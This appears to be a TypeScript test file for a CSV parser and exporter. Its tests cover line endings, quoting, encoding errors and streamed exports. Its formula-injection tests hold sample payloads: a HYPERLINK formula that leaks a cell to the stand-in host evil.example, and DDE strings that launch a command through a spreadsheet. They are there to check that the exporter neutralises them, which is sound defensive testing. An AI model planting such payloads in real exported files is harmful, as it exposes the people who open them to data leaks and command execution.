import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeCsv, parseCsv, parseCsvRecords, readCsvFile } from './read';
import { csvStream, formatCsvRow, type CsvCell } from './write';

/** One field as an export writes it (a record of one, without its line break). */
const formatCsvField = (value: CsvCell) => formatCsvRow([value]).slice(0, -2);

describe('parseCsv', () => {
  it('splits plain fields and records with CRLF, LF or CR', () => {
    expect(parseCsv('a,b\r\nc,d\ne,f\rg,h')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
      ['e', 'f'],
      ['g', 'h'],
    ]);
  });

  it('gives each record the line it starts on, however its lines and fields break', () => {
    // Lines: 1 a, 2-3 "b c", 4 d (CRLF), 5-6 "e f" (CRLF inside), 7 g (lone CR), 8-9 "h i" (CR inside), 10 jé, 11 blank, 12 "" (blank), 13 k.
    const records = parseCsvRecords('\uFEFFa\n"b\nc"\nd\r\n"e\r\nf"\r\ng\r"h\ri"\rjé\n\n""\nk');
    expect(records.map((r) => [r.line, r.cells[0]])).toEqual([[1, 'a'], [2, 'b\nc'], [4, 'd'], [5, 'e\r\nf'], [7, 'g'], [8, 'h\ri'], [10, 'jé'], [13, 'k']]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks', () => {
    expect(parseCsv('"Widget, large","He said ""hi""","line 1\r\nline 2"\r\n')).toEqual([['Widget, large', 'He said "hi"', 'line 1\r\nline 2']]);
  });

  it('drops a byte-order mark and blank lines, keeps empty fields', () => {
    expect(parseCsv('\uFEFFSKU,Name\r\n\r\nA-1,,\r\n\r\n')).toEqual([
      ['SKU', 'Name'],
      ['A-1', '', ''],
    ]);
  });

  it('handles a last record without a line break and a trailing empty field', () => {
    expect(parseCsv('a,')).toEqual([['a', '']]);
  });

  it('reports an unclosed quote with its line', () => {
    expect(() => parseCsv('a,b\n"c,d\ne')).toThrow('Line 2: a quoted field is never closed');
  });
});

describe('formatCsvRow', () => {
  it('quotes only fields that need it and round-trips through the parser', () => {
    const row = ['A-1', 'Widget, "large"', 'two\nlines', ' padded ', '', null, 12.5];
    const text = formatCsvRow(row);
    expect(text).toBe('A-1,"Widget, ""large""","two\nlines"," padded ",,,12.5\r\n');
    expect(parseCsv(text)).toEqual([['A-1', 'Widget, "large"', 'two\nlines', ' padded ', '', '', '12.5']]);
  });
});

/** What a spreadsheet sees in a cell: the field with its CSV quoting taken off. */
const shown = (field: string) => (field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field);
const FORMULA = /^[=+\-@\t\r\n]/;

describe('formula injection (issue 7, item 8)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "\"'\r=1+1\""],
    ["'=already quoted", "''=already quoted"],
  ])('exports %j so that a spreadsheet shows it as text', (value, field) => {
    expect(formatCsvField(value)).toBe(field);
    expect(shown(field)).not.toMatch(FORMULA);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(formatCsvRow(["O'Brien", "'quoted'", 'a=b', '12.50', -3, 0])).toBe("O'Brien,'quoted',a=b,12.50,-3,0\r\n");
  });

  it('reads the neutralised cells back to the exact values, removing one quote only', () => {
    expect(parseCsv(`'=1+1,''=x,'-2+3,'plain,'\t=y,O'Brien\r\n`)).toEqual([['=1+1', "'=x", '-2+3', "'plain", '\t=y', "O'Brien"]]);
  });

  it('round-trips any value exactly, and no exported cell starts a formula', () => {
    const piece = fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', "'", '"', ',', ' ', '\uFEFF', 'A1', '1'),
      fc.string({ unit: 'binary', maxLength: 6 }).map((s) => s.replace(/\0/g, '')),
    );
    const cell = fc.array(piece, { maxLength: 6 }).map((p) => p.join(''));
    const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }).filter((r) => !(r.length === 1 && r[0] === '')), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(rows, (table) => {
        for (const row of table) for (const value of row) expect(shown(formatCsvField(value))).not.toMatch(FORMULA);
        // As the export writes it: a byte-order mark first, then CRLF records, through UTF-8 bytes.
        const bytes = new TextEncoder().encode(`\uFEFF${table.map(formatCsvRow).join('')}`);
        expect(parseCsv(decodeCsv(bytes))).toEqual(table);
      }),
      { numRuns: 500 },
    );
  });
});

describe('files the database cannot hold (issue 7, item 1)', () => {
  it('refuses a NUL character, naming its line', () => {
    expect(() => parseCsv('SKU,Name\r\nA-1,Fine\r\nA-2,"Bad\nname\0here"\r\n')).toThrow(/^Line 4: the file contains a NUL character/);
  });

  it('refuses bytes that are not UTF-8, naming the line', () => {
    const enc = new TextEncoder();
    const bytes = new Uint8Array([...enc.encode('SKU,Name\r\nA-1,Café\r\nA-2,Caf'), 0xe9, ...enc.encode('\r\n')]);
    expect(() => decodeCsv(bytes)).toThrow(/^Line 3: the file is not UTF-8 text/);
    // A UTF-16 file, as Excel's "Unicode Text" saves it.
    expect(() => decodeCsv(new Uint8Array([0xff, 0xfe, 0x53, 0x00]))).toThrow(/^Line 1: the file is not UTF-8 text/);
    expect(decodeCsv(enc.encode('\uFEFFSKU,Name\r\nA-1,Café'))).toBe('SKU,Name\r\nA-1,Café');
  });
});

describe('what spreadsheets and hand-made files do (csv-parse, issue 8 item 6)', () => {
  it('reads a file whose lines end differently, and keeps a quote inside an unquoted field', () => {
    expect(parseCsv('SKU,Name\r\nA-1,12" ruler\nA-2,"Shelf, 2m"\rA-3,x')).toEqual([
      ['SKU', 'Name'],
      ['A-1', '12" ruler'],
      ['A-2', 'Shelf, 2m'],
      ['A-3', 'x'],
    ]);
  });

  it('names the line where an unclosed quote starts, after blank lines and multi-line fields', () => {
    expect(() => parseCsv('SKU,Name\r\n\r\nA-1,"two\nlines"\r\n\r\nA-2,"never closed\r\nA-3,x\r\n')).toThrow(/^Line 6: a quoted field is never closed/);
    expect(() => parseCsv('"é",ü\n"open')).toThrow(/^Line 2: a quoted field is never closed/);
  });

  it('refuses a NUL before anything else, naming its line', () => {
    expect(() => parseCsv('a\n"b\0')).toThrow(/^Line 2: the file contains a NUL character/);
  });
});

describe('csvStream', () => {
  const read = (stream: ReadableStream<Uint8Array>) => new Response(stream).arrayBuffer().then((b) => new Uint8Array(b));

  it('writes a byte-order mark, the header, then each batch in order, as the reader takes them', async () => {
    const asked: number[] = [];
    async function* batches() {
      for (let i = 0; i < 3; i++) {
        asked.push(i);
        yield [[`A-${i}`, `=cmd ${i}`, i]];
      }
    }
    const bytes = await read(csvStream(['SKU', 'Name', 'Qty'], batches()));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes)).toBe("SKU,Name,Qty\r\nA-0,'=cmd 0,0\r\nA-1,'=cmd 1,1\r\nA-2,'=cmd 2,2\r\n");
    expect(asked).toEqual([0, 1, 2]);
  });

  it('does not read ahead of the reader: a large export is read a batch at a time', async () => {
    let read = 0;
    async function* batches() {
      for (let i = 0; i < 1000; i++) {
        read++;
        yield Array.from({ length: 100 }, (_, r) => [`SKU-${i}-${r}`, 'x'.repeat(100)]);
      }
    }
    const reader = csvStream(['SKU', 'Name'], batches()).getReader();
    await reader.read();
    await new Promise((r) => setImmediate(r));
    expect(read).toBeLessThan(50);
    await reader.cancel();
  });

  it('aborts the download when a batch fails, rather than ending it as if complete', async () => {
    async function* batches() {
      yield [['A-1', 'ok']];
      throw new Error('connection lost');
    }
    await expect(read(csvStream(['SKU', 'Name'], batches()))).rejects.toThrow();
  });
});

describe('readCsvFile', () => {
  it('reads an upload’s bytes or text alike, refusing a non-UTF-8 one by line', async () => {
    const enc = new TextEncoder();
    expect(await readCsvFile(new Blob([enc.encode('\uFEFFSKU,Name\r\nA-1,Café\r\n')]))).toEqual([
      ['SKU', 'Name'],
      ['A-1', 'Café'],
    ]);
    expect(await readCsvFile('SKU\nA-1')).toEqual([['SKU'], ['A-1']]);
    await expect(readCsvFile(new Blob([new Uint8Array([...enc.encode('SKU\nCaf'), 0xe9])]))).rejects.toThrow(/^Line 2: the file is not UTF-8 text/);
  });
});
